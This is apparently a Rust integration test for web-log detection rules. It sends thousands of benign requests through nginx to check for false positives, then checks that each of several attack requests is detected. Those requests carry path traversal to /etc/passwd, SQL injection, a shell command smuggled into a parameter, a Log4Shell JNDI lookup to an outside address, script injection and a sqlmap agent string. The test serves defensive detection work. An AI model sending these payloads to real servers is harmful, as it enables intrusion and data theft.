//! Ordinary traffic through nginx itself: the packs say nothing about thousands of requests of people,
//! search engines, monitors and programs, and find each attack among them.
//!
//! Skips with a message where there is no nginx.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "a test may stop where it stands and say why"
)]

#[path = "../../parse/tests/nginx/mod.rs"]
#[expect(dead_code, reason = "shared with another test")]
mod nginx;
#[expect(dead_code, reason = "shared with other tests")]
mod support;

use nginx::Nginx;
use support::{findings, packs};

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Uptime-Kuma/1.23.11",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Prometheus/2.55.0",
    "Debian APT-HTTP/1.3 (2.6.1)",
    "git/2.39.5",
    "Mozilla/5.0 (Linux) mirall/3.14.1 (Nextcloud, debian-6.1.0 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
];

const PATHS: &[&str] = &[
    "/any/",
    "/any/products?page=2&sort=price&order=desc",
    "/any/search?q=union+jack+selection+from+1960",
    "/any/search?q=rock+%27n%27+roll+and+blues",
    "/any/search?q=it%27s+--+well+--+complicated",
    "/any/search?q=select+committee+of+the+house",
    "/any/search?q=how+to+sleep+%288+hours%29",
    "/any/search?q=drop+shadow+table+css",
    "/any/search?q=C%2B%2B+templates+%3Cvector%3E",
    "/any/search?q=1+%2B+1+%3D+2",
    "/any/search?q=%22exact+phrase%22+or+similar",
    "/any/search?q=price+%3E+10+and+price+%3C+20",
    "/any/caf%C3%A9/men%C3%BC?gr%C3%B6%C3%9Fe=xl",
    "/any/%E6%97%A5%E6%9C%AC%E8%AA%9E?x=%E2%82%AC",
    "/any/app.3f9a1c.js?v=1.2.3",
    "/any/img/photo%20of%20a%20cat.jpg",
    "/any/compare/v1.2.3...v1.3.0",
    "/any/wiki/Cat_(Unix)#Usage",
    "/any/wiki/Help:Contents?action=edit&section=2",
    "/any/go?url=https%3A%2F%2Fwww.example.org%2Fa%3Fb%3Dc%26d%3De",
    "/any/oauth/callback?code=4%2F0AX4XfWi&state=eyJhIjoiYiJ9&scope=email%20profile",
    "/any/api/v1/items?filter[name]=x&filter[price][gte]=10&include=a,b",
    "/any/api/v2/query?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))",
    "/any/api/items;version=2?fields=id;name",
    "/any/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
    "/any/utm?utm_source=newsletter&utm_medium=email&utm_campaign=black+friday+%26+more",
    "/any/maps?ll=52.5200,13.4050&z=12&q=caf%C3%A9+%7C+bar",
    "/any/css?family=Open+Sans:400,700|Roboto:300",
    "/any/wp-content/uploads/2026/11/picture-300x200.jpg",
    "/any/wp-admin/admin-ajax.php?action=heartbeat",
    "/any/index.php?option=com_content&view=article&id=7",
    "/any/files/report%20(final).pdf?download=1",
    "/any/remote.php/dav/files/anna/Notes/to%20do.md",
    "/any/repo.git/info/refs?service=git-upload-pack",
    "/any/debian/dists/bookworm/InRelease",
    "/any/collect?v=2&tid=G-1&dl=https%3A%2F%2Fwww.example.org%2F&dt=A%20%7C%20B&sr=1920x1080",
    "/any/items?ids=1,2,3&from=2026-01-01&to=2026-12-31&or=1",
    "/any/t?text=wait...+what%3F",
    "/index.html",
    "/robots.txt",
    "/favicon.ico",
    "/apple-touch-icon.png",
    "/.well-known/security.txt",
    "/sitemap.xml",
];

const METHODS: &[&str] = &["GET", "GET", "GET", "GET", "HEAD", "POST", "PROPFIND", "OPTIONS"];

fn request(method: &str, path: &str, agent: &str, client: &str) -> String {
    format!(
        "{method} {path} HTTP/1.1\r\nHost: www.example.org\r\nConnection: close\r\n\
         User-Agent: {agent}\r\nReferer: https://www.example.org/search?q=a+or+b\r\n\
         X-Test-Client: {client}\r\n\r\n"
    )
}

#[test]
fn ordinary_traffic_is_no_finding_and_each_attack_is_one() {
    let Some(nginx) = Nginx::start(env!("CARGO_TARGET_TMPDIR"), "noise") else { return };
    let mut sent = 0;
    for round in 0..80 {
        for (index, path) in PATHS.iter().enumerate() {
            let number = round * PATHS.len() + index;
            let method = METHODS[number % METHODS.len()];
            let agent = AGENTS[(number / 3) % AGENTS.len()];
            let client = format!("198.51.{}.{}", 100 + number % 7, 1 + number % 250);
            nginx.send(request(method, path, agent, &client).as_bytes());
            sent += 1;
        }
    }
    // Each comes once to log in, some by mistake.
    for client in 1..60 {
        for path in ["/login", "/private"] {
            let client = format!("198.51.110.{client}");
            nginx.send(request("POST", path, AGENTS[0], &client).as_bytes());
            sent += 1;
        }
    }
    let rules = packs();
    for log in ["access.log", "json.log", "site.log", "careless.log"] {
        let lines = nginx.lines(log, sent);
        assert!(lines.len() > 3_500);
        let found = findings(&rules, &lines.join("\n"));
        let said: Vec<String> =
            found.iter().map(|one| format!("{}: {}", one.rule_name, one.example)).collect();
        assert_eq!(said, [] as [String; 0], "{log}");
    }

    let attacks = [
        ("/any?f=..%2f..%2f..%2fetc%2fhosts", "Path traversal in a request"),
        ("/any/%25%32%65%25%32%65/%25%32%65%25%32%65/x", "Path traversal in a request"),
        ("/any?f=/etc/passwd", "A file of the system or a wrapper asked for"),
        ("/any?id=-1+UNION+SELECT+1,2,3", "SQL in a request"),
        ("/any?id=1%27%20OR%20%271%27=%271", "SQL in a request"),
        ("/any?h=127.0.0.1%3Bcat%20/etc/hosts", "A command of a shell in a request"),
        ("/any?x=$%7Bjndi:ldap://192.0.2.66/a%7D", "Log4Shell lookup in a request"),
        ("/any?x=%3Cscript%3Ealert(1)%3C/script%3E", "Script in a URL"),
    ];
    for (index, (path, _)) in attacks.iter().enumerate() {
        let client = format!("203.0.113.{index}");
        nginx.send(request("GET", path, AGENTS[0], &client).as_bytes());
    }
    let agents = request("GET", "/any", "sqlmap/1.8 (https://sqlmap.org)", "203.0.113.100");
    nginx.send(agents.as_bytes());
    for log in ["access.log", "json.log", "site.log", "careless.log"] {
        let lines = nginx.lines(log, sent + attacks.len() + 1);
        let found = findings(&rules, &lines[sent..].join("\n"));
        for (index, (path, rule)) in attacks.iter().enumerate() {
            let client = format!("203.0.113.{index}");
            let is_found = found.iter().any(|one| {
                one.rule_name == *rule && one.source.as_deref() == Some(client.as_str())
            });
            assert!(is_found, "{log}: {path}");
        }
        assert!(found.iter().any(|one| one.rule_name == "Scanner of web sites by its name"));
    }
}
